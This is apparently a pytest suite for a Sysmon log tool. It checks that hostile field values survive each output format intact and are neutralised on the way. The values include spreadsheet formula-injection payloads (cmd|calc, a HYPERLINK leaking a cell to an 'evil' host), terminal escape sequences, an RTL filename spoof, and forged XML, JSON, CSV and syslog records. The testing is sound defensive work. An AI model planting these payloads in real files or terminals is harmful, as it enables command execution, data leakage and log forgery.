"""Hostile field values through every writer and back through the matching reader (issue 6.5).

Values an attacker can put in a command line, a file name or a host name: XML metacharacters,
quotes, CR/LF, NUL and other control characters, lone surrogates, ANSI/OSC escape sequences, the
8-bit CSI, U+202E, spreadsheet formula prefixes, very long values, forged XML elements, JSON keys,
CSV rows and syslog lines. For each writer the output must parse back to exactly the original
fields (XML: with the documented ``\\uXXXX`` rendering of characters XML cannot carry; CSV: the
``EventData`` column exactly, the display columns as documented), one event per line, and the
raw bytes must hold no terminal escape. The command line must print none either.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import socket
import tempfile
from pathlib import Path

import pytest

from sysmonx.cli import main
from sysmonx.event import Event
from sysmonx.sinks import writer_class
from sysmonx.sinks.csv_timeline import COLUMNS, CsvTimelineWriter, neutralise, unneutralise
from sysmonx.sinks.jsonl import JsonlWriter
from sysmonx.sinks.syslog import SyslogWriter
from sysmonx.sources import ReadError, open_source
from sysmonx.sources.syslog import read_syslog_stream
from sysmonx.textsafe import safe_console, terminal_safe, visible

LONG = "A" * 200_000 + "<&>\"'\n" * 1000 + "\x1b[2J" * 100

#: value name -> hostile value
VALUES = {
    "xml_meta": "C:\\a&b<c>d\"e'f.exe & &amp; &#10; &lt;Event&gt; &xxe; ]]> <![CDATA[x]]>",
    "quotes": "\"double\" 'single' `back` \u201ccurly\u201d",
    "crlf": "line1\nline2\r\nline3\rend\n",
    "nul_controls": "nul\x00 soh\x01 bs\x08 vt\x0b ff\x0c us\x1f del\x7f bel\x07 tab\t",
    "lone_surrogates": "lone \ud800 low \udfff low-then-high \udc00\udbff?",
    "nonchars": "\ufffe\uffff",
    "ansi_sgr": "\x1b[31mRED\x1b[0m \x1b[2J\x1b[H",
    "osc_title": "\x1b]0;pwned title\x07 and \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\",
    "c1_csi": "eight-bit \x9b31m CSI \x9d0;t\x9c NEL\x85",
    "rtl": "invoice\u202egpj.exe \u2066iso\u2069 \u200f",
    "separators": "ls\u2028 ps\u2029",
    "formula_eq": "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "apostrophe": "'=already quoted",
    "dash": "-",
    "long": LONG,
    "forged_data": "</Data><Data Name='Image'>C:\\evil.exe</Data><Data Name=\"User\">root",
    "forged_event": "</Data></EventData></Event>\n<Event><System><EventID>1</EventID></System>"
                    "</Event>",
    "forged_json": '", "EventID": 99, "Image": "evil.exe", "System": {}, "x": "',
    "forged_json_line": '"}\n{"EventID":1,"Image":"evil.exe"}',
    "forged_csv": 'a","b\r\nforged,row,"=1+1"\r\n',
    "forged_syslog": "x\n<14>Nov 30 02:10:00 host sysmon: <Event><System><Provider "
                     "Name=\"Linux-Sysmon\"/><EventID>1</EventID></System><EventData/></Event>",
    "unicode": "Ünïcødé 日本語 \U0001f600 \u00a0nbsp",
    "empty": "",
    "spaces": "  padded  ",
    "backslash_u": "\\u001b literal text",
}

#: hostile field names (JSON reserved keys, XML markup, controls)
NAMES = ["EventID", "System", "ExtraData", "Name'with\"quotes<&>", "name\nwith\rbreaks",
         "esc\x1b[31mname", "rtl\u202ename"]


def hostile_event(record: int) -> Event:
    data = {"RuleName": VALUES["formula_eq"], "UtcTime": "2024-01-02 03:04:05.123",
            "ProcessId": "4242", "Image": VALUES["rtl"] + VALUES["osc_title"],
            "CommandLine": VALUES["crlf"] + VALUES["forged_csv"] + VALUES["c1_csi"],
            "ParentImage": VALUES["formula_plus"], "User": VALUES["forged_data"],
            "TargetFilename": VALUES["formula_at"] + VALUES["nul_controls"]}
    data.update((f"V_{k}", v) for k, v in VALUES.items())
    for i, name in enumerate(NAMES):
        data[name] = f"value of hostile name {i} \x1b[0m"
    return Event(11, data, record_id=record, version=2, level=4, task=11, opcode=0,
                 time_created="2024-01-02T03:04:05.123456700Z", process_id=1, thread_id=2,
                 computer="=host\n<Computer>evil</Computer>\x1b]0;x\x07",
                 user_id="S-1-5-18' x='1\"", keywords="0x8000000000000000",
                 channel="Microsoft-Windows-Sysmon/Operational")


EVENTS = [hostile_event(1), hostile_event(2), hostile_event(3)]

_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_C1_UTF8 = re.compile(rb"\xc2[\x80-\x9f]")
_RAW_CONTROL = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xml_rendering(value: str) -> str:
    """The documented XML rendering (sysmonx.sinks._xml) of characters XML cannot carry."""
    return _NOT_XML.sub(lambda m: "\\u%04x" % ord(m.group()), value)


def no_terminal_escapes(raw: bytes) -> None:
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\x00" not in raw
    assert not _RAW_CONTROL.search(raw), _RAW_CONTROL.search(raw)
    assert not _C1_UTF8.search(raw), "raw C1 control (8-bit CSI ...) in the output"


def read(path, fmt=None):
    errors: list[ReadError] = []
    events = list(open_source(str(path), errors.append, fmt))
    return events, errors


def write(tmp_path: Path, name: str, events, filename: str, **options) -> Path:
    out = tmp_path / filename
    with writer_class(name)(open(out, "wb"), **options) as w:
        for e in events:
            w.write(e)
    return out


# ---- XML and JSON lines -------------------------------------------------------------------------

@pytest.mark.parametrize("name,filename,readers", [
    ("xml", "out.xml", ["xml", "syslog"]),
    ("linux-xml", "out.log", ["xml", "syslog"]),
    ("jsonl", "out.jsonl", ["jsonl"]),
])
def test_xml_and_jsonl_writers_give_back_exactly_the_fields(tmp_path, name, filename, readers):
    out = write(tmp_path, name, EVENTS, filename)
    raw = out.read_bytes()
    assert raw.count(b"\n") == len(EVENTS) and raw.endswith(b"\n")  # one line per event
    no_terminal_escapes(raw)
    for fmt in readers:
        back, errors = read(out, fmt)
        assert errors == []
        assert len(back) == len(EVENTS), fmt  # no forged event
        for original, got in zip(EVENTS, back, strict=False):
            if name == "jsonl":
                assert got == original  # JSON carries every character, names included
                assert list(got.data) == list(original.data)
                continue
            expected = {xml_rendering(k): xml_rendering(v) for k, v in original.data.items()}
            assert list(got.data.items()) == list(expected.items())  # no forged or lost field
            assert got.data["V_c1_csi"] == VALUES["c1_csi"]      # C1: character references
            assert got.data["V_rtl"] == VALUES["rtl"]
            assert got.data["V_crlf"] == VALUES["crlf"]
            assert got.data["V_long"] == xml_rendering(LONG)
            assert got.data["V_nul_controls"] == ("nul\\u0000 soh\\u0001 bs\\u0008 vt\\u000b "
                                                  "ff\\u000c us\\u001f del\x7f bel\\u0007 tab\t")
            assert got.data["V_lone_surrogates"] == \
                "lone \\ud800 low \\udfff low-then-high \\udc00\\udbff?"
            assert got.computer == xml_rendering(original.computer)
            assert got.user_id == original.user_id
            assert (got.event_id, got.record_id) == (original.event_id, original.record_id)
            assert got.time_created == original.time_created


# ---- syslog -------------------------------------------------------------------------------------

@pytest.fixture
def syslog_socket():
    d = tempfile.mkdtemp(prefix="sx")  # short: AF_UNIX paths are limited to 108 bytes
    path = os.path.join(d, "log")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    server.bind(path)
    server.settimeout(5)
    yield path, server
    server.close()
    shutil.rmtree(d, ignore_errors=True)


def _short(e: Event) -> Event:
    """``e`` without the 200 KB value (a datagram that large is refused by the socket)."""
    data = {k: v for k, v in e.data.items() if k != "V_long"}
    return Event(e.event_id, data, record_id=e.record_id, version=e.version, level=e.level,
                 task=e.task, opcode=e.opcode, time_created=e.time_created,
                 process_id=e.process_id, thread_id=e.thread_id, computer=e.computer,
                 user_id=e.user_id, keywords=e.keywords, channel=e.channel)


def test_syslog_records_give_back_exactly_the_fields(syslog_socket):
    path, server = syslog_socket
    events = [_short(e) for e in EVENTS]
    writer = SyslogWriter(path)
    for e in events:
        writer.write(e)
    with pytest.raises(OSError):  # too large for one datagram: failed, not cut or split
        writer.write(EVENTS[0])
    writer.close()
    assert (writer.sent, writer.failed) == (len(events), 1)
    datagrams = [server.recv(1 << 22) for _ in events]
    for d in datagrams:
        assert d.startswith(b"<14>") and b"\n" not in d and b"\r" not in d  # one syslog line
        no_terminal_escapes(d)
        assert d.count(b" sysmon: <Event>") == 1
    errors: list[ReadError] = []
    back = list(read_syslog_stream(io.BytesIO(b"\n".join(datagrams) + b"\n"), "syslog",
                                   errors.append))
    assert errors == [] and len(back) == len(events)  # the forged syslog line forged nothing
    for original, got in zip(events, back, strict=False):
        expected = {xml_rendering(k): xml_rendering(v) for k, v in original.data.items()}
        assert list(got.data.items()) == list(expected.items())
        assert got.provider == original.provider and got.record_id == original.record_id


# ---- CSV timeline -------------------------------------------------------------------------------

def parse_csv(raw: bytes) -> list[list[str]]:
    csv.field_size_limit(1 << 30)  # the long value's EventData cell is larger than the default
    text = raw.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def display(value) -> str:
    """The documented display rendering of a CSV cell (before neutralisation)."""
    return visible(value or "", "\t")


@pytest.mark.parametrize("bom", [False, True])
def test_csv_gives_back_exactly_the_fields(tmp_path, bom):
    out = write(tmp_path, "csv", EVENTS, "out.csv", bom=bom)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == bom
    if bom:
        raw = raw[3:]
    no_terminal_escapes(raw)
    assert raw.count(b"\r\n") == raw.count(b"\n") == len(EVENTS) + 1  # one line per event
    rows = parse_csv(raw)
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(EVENTS) + 1 and all(len(r) == len(COLUMNS) for r in rows)
    for original, cells in zip(EVENTS, rows[1:], strict=False):
        row = dict(zip(COLUMNS, cells, strict=False))
        # the EventData column holds exactly the original fields, order included
        data = json.loads(row["EventData"])
        assert list(data.items()) == list(original.data.items())
        # no cell can be evaluated as a formula
        for c in cells:
            assert c == "-" or c[:1] not in ("=", "+", "-", "@", "\t", "\r"), c
        d = original.data
        assert unneutralise(row["Image"]) == display(d["Image"])
        assert unneutralise(row["CommandLine"]) == display(d["CommandLine"])
        assert unneutralise(row["ParentImage"]) == display(d["ParentImage"])
        assert unneutralise(row["User"]) == display(d["User"])
        assert unneutralise(row["RuleName"]) == display(d["RuleName"])
        assert unneutralise(row["Details"]) == display(d["TargetFilename"])
        assert row["ParentImage"] == "'" + VALUES["formula_plus"]
        assert row["RuleName"].startswith("'=HYPERLINK(")
        assert row["Image"].startswith("invoice\\u202egpj.exe")  # RTL override made visible
        assert unneutralise(row["Computer"]) == display(original.computer)
        assert row["TimeCreated"] == "2024-01-02T03:04:05.1234567Z"
        assert (row["EventID"], row["EventName"], row["RecordID"], row["ProcessId"]) == \
            ("11", "FileCreate", str(original.record_id), "4242")
        assert row["Provider"] == "Microsoft-Windows-Sysmon"


@pytest.mark.parametrize("value", [v for k, v in VALUES.items() if k != "long"])
def test_csv_each_value_alone_in_every_display_column(value):
    e = Event(1, {"RuleName": value, "Image": value, "CommandLine": value, "ParentImage": value,
                  "User": value, "TargetFilename": value, "ProcessId": value},
              computer=value, time_created="2024-01-02T03:04:05.000000000Z")
    out = io.BytesIO()
    CsvTimelineWriter(out, close_stream=False).write(e)
    raw = out.getvalue()
    no_terminal_escapes(raw)
    rows = parse_csv(raw)
    assert len(rows) == 2 and raw.count(b"\n") == 2
    row = dict(zip(COLUMNS, rows[1], strict=False))
    assert list(json.loads(row["EventData"]).items()) == list(e.data.items())
    for col in ("Computer", "ProcessId", "Image", "CommandLine", "ParentImage", "User", "Details",
                "RuleName"):
        assert row[col] == neutralise(display(value)), col
        assert unneutralise(row[col]) == display(value)


def test_csv_neutralisation_rules():
    for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "'x"):
        assert neutralise(v) == "'" + v and unneutralise(neutralise(v)) == v
    for v in ("-", "", "a=1", "1-2", " =1"):
        assert neutralise(v) == v and unneutralise(v) == v


def test_csv_details_column():
    from sysmonx.sinks.csv_timeline import details
    net = Event(3, {"Protocol": "tcp", "SourceIp": "10.0.0.5", "SourcePort": "49713",
                    "DestinationIp": "93.184.216.34", "DestinationPort": "443",
                    "DestinationHostname": "example.com"})
    assert details(net) == "tcp 10.0.0.5:49713 -> 93.184.216.34:443 (example.com)"
    assert details(Event(13, {"TargetObject": "HKLM\\x", "Details": "DWORD (0x00000001)"})) == \
        "HKLM\\x = DWORD (0x00000001)"
    assert details(Event(14, {"TargetObject": "HKLM\\a", "NewName": "HKLM\\b"})) == \
        "HKLM\\a -> HKLM\\b"
    assert details(Event(22, {"QueryName": "evil.example"})) == "evil.example"
    assert details(Event(1, {"Image": "x"})) == ""


def test_csv_time_is_utc_with_z():
    from sysmonx.sinks.csv_timeline import row
    assert row(Event(1, {}, time_created="2024-01-02T05:04:05.5+02:00"))[0] == \
        "2024-01-02T03:04:05.5000000Z"
    assert row(Event(1, {}, time_created=""))[0] == ""


# ---- the command line ---------------------------------------------------------------------------

def _jsonl_input(path: Path, events) -> Path:
    with JsonlWriter(open(path, "wb")) as w:
        for e in events:
            w.write(e)
    return path


@pytest.mark.parametrize("fmt,reader", [("xml", "xml"), ("linux-xml", "syslog"),
                                        ("jsonl", "jsonl"), ("csv", None)])
def test_cli_replays_hostile_values_through_every_format(tmp_path, capsys, fmt, reader):
    src = _jsonl_input(tmp_path / "in.jsonl", EVENTS)
    out = tmp_path / f"out.{fmt}"
    assert main(["replay", str(src), "--format", fmt, "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert "errors: 0" in err
    raw = out.read_bytes()
    no_terminal_escapes(raw)
    if reader is None:
        rows = parse_csv(raw)
        assert len(rows) == len(EVENTS) + 1
        assert [json.loads(r[-1]) for r in rows[1:]] == [e.data for e in EVENTS]
        return
    back, errors = read(out, reader)
    assert errors == [] and len(back) == len(EVENTS)
    for original, got in zip(EVENTS, back, strict=False):
        if fmt == "jsonl":
            assert got == original
        else:
            assert got.data == {xml_rendering(k): xml_rendering(v)
                                for k, v in original.data.items()}


HOSTILE_NAME = "evil\x1b]0;pwned\x07\x1b[31m\u202etxt.\x9b2J\nerror: forged line"


def _assert_terminal_safe(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\u202e" not in text and "\r" not in text
    for line in text.splitlines():
        assert not line.startswith("error: forged line")


def test_cli_error_lines_cannot_emit_terminal_escapes(tmp_path, capsys):
    d = tmp_path / "in"
    d.mkdir()
    bad = d / (HOSTILE_NAME.replace("\n", "_") + ".jsonl")
    bad.write_bytes(b'{"EventID": "\x1b[2J\xc2\x9b"}\nnot json \x1b]0;t\x07\n'
                    + b'{"EventID":1,"System":{"TimeCreated":"\x1b[31m"}}\n')
    # every line bad, nothing read: fatal (exit 1), the last error line says so
    assert main(["replay", str(d), "--format", "jsonl", "-o", str(tmp_path / "o")]) == 1
    err = capsys.readouterr().err
    _assert_terminal_safe(err)
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 4 and all(str(d) in line for line in errors[:3])
    assert errors[3] == "error: nothing was read: the input gave no record (3 errors above)"
    assert "\\u001b]0;pwned\\u0007" in err
    assert "\\u202etxt." in err


def test_cli_fatal_and_usage_errors_cannot_emit_terminal_escapes(tmp_path, capsys):
    missing = str(tmp_path / HOSTILE_NAME)
    assert main(["replay", missing]) == 1
    err = capsys.readouterr().err
    _assert_terminal_safe(err)
    assert "\\u001b]0;pwned" in err and "\n  error: forged line" in err  # continuation, indented
    src = _jsonl_input(tmp_path / "in.jsonl", EVENTS[:1])
    assert main(["replay", str(src), "--from", "2024\x1b[2J\u202e"]) == 87
    err = capsys.readouterr().err
    _assert_terminal_safe(err)
    assert "error: --from/--to" in err


def test_a_surrogate_pair_of_halves_comes_back_as_one_character_in_json(tmp_path):
    """JSON (like UTF-16, the Event Log's encoding) cannot tell a high surrogate followed by a low
    one from the character they encode: the JSON writers give back that character."""
    e = Event(1, {"V": "\udbff\udc00"})
    out = write(tmp_path, "jsonl", [e], "pair.jsonl")
    assert read(out)[0][0].data == {"V": "\U0010fc00"}


def test_safe_console_never_interprets_markup_or_controls():
    buf = io.StringIO()
    console = safe_console(file=buf, force_terminal=True, width=200, soft_wrap=True)
    console.print("[link=http://evil/]x[/link] [bold red]y[/] \x1b[31mz :smile: \x9b \u202e")
    text = buf.getvalue()
    assert "\x1b" not in text  # no OSC 8 link, no style, no raw ESC
    assert text == ("[link=http://evil/]x[/link] [bold red]y[/] \\u001b[31mz :smile: \\u009b "
                    "\\u202e\n")
    assert terminal_safe("a\tb\r\nc\ud800") == "a\\u0009b\\u000d\\u000ac\\ud800"


def test_csv_parallel_replay_writes_one_header(tmp_path, capsys):
    a = _jsonl_input(tmp_path / "a.jsonl", EVENTS[:2])
    b = _jsonl_input(tmp_path / "b.jsonl", EVENTS[2:])
    out1, out2 = tmp_path / "one.csv", tmp_path / "two.csv"
    assert main(["replay", str(a), str(b), "-f", "csv", "--csv-bom", "-o", str(out1), "-q"]) == 0
    assert main(["replay", str(a), str(b), "-f", "csv", "--csv-bom", "-o", str(out2), "-q",
                 "--jobs", "2", "--keep-duplicates"]) == 0
    raw = out1.read_bytes()
    assert raw == out2.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert raw.count(b"TimeCreated,Computer") == 1
    assert len(parse_csv(raw[3:])) == len(EVENTS) + 1


def test_progress_bar_terminal_keeps_hostile_names_inert(tmp_path, monkeypatch):
    """On a terminal (progress bar on), error lines about a hostile file name still carry no OSC,
    no C1 control and no bidi override; the only escapes are rich's own cursor and style codes."""
    import sysmonx.cli.common as cli
    d = tmp_path / "in"
    d.mkdir()
    # a damaged JSON object (a text line without one is a warning since session 12)
    (d / (HOSTILE_NAME.replace("\n", "_") + ".jsonl")).write_bytes(b"{not json\n")
    buf = io.StringIO()
    monkeypatch.setattr(cli, "stderr_console", lambda: safe_console(
        file=buf, force_terminal=True, highlight=False, soft_wrap=True))
    assert main(["replay", str(d), "-o", str(tmp_path / "o")]) == 1  # nothing read: fatal
    text = buf.getvalue()
    assert "\x1b]" not in text and "\x07" not in text and "\x9b" not in text
    assert "\u202e" not in text and "\\u001b]0;pwned\\u0007" in text


# ---- a time that only looks like one ----------------------------------------------------------

#: 30 characters, 'T' at 10, '.' at 19, 'Z' last (the outline of a canonical time) with markup,
#: quotes and spaces where the digits go: written as a time, it would close the SystemTime
#: attribute and add an element (or shift the syslog header's fields)
FORGED_TIMES = ["2021-11-18T'/><F/>x.123456789Z", '2021-11-18T"/><F/>x.123456789Z',
                "2021-11-18T0 host x.123456789Z", "2021-11-18T07:40:29.12345678\u00e9Z"]


@pytest.mark.parametrize("time", FORGED_TIMES)
@pytest.mark.parametrize("name,filename", [("xml", "out.xml"), ("linux-xml", "out.log")])
def test_xml_time_lookalike_cannot_add_an_element(tmp_path, time, name, filename):
    import xml.etree.ElementTree as ET
    e = hostile_event(1)
    e.time_created = time
    out = write(tmp_path, name, [e], filename)
    root = ET.fromstring(out.read_bytes())
    system = root.find("{*}System")
    assert system is not None
    assert [c.tag.split("}")[-1] for c in system].count("F") == 0
    tc = system.find("{*}TimeCreated")
    assert tc is not None and tc.get("SystemTime") == time  # not a time: escaped as it is
    events, errors = read(out)  # and refused when read back, as any other non-time
    assert not events and len(errors) == 1 and "not an ISO 8601 time" in errors[0].message


@pytest.mark.parametrize("time", FORGED_TIMES)
def test_syslog_time_lookalike_is_no_timestamp(time):
    from sysmonx.sinks.netsyslog import rfc5424
    e = hostile_event(1)
    e.time_created = time
    head = rfc5424(e, b"x").split(b" ")
    assert head[1] == b"-"  # NILVALUE: no timestamp
    assert head[2] == b"-"  # the host name field (e.computer is not a valid one) where it was
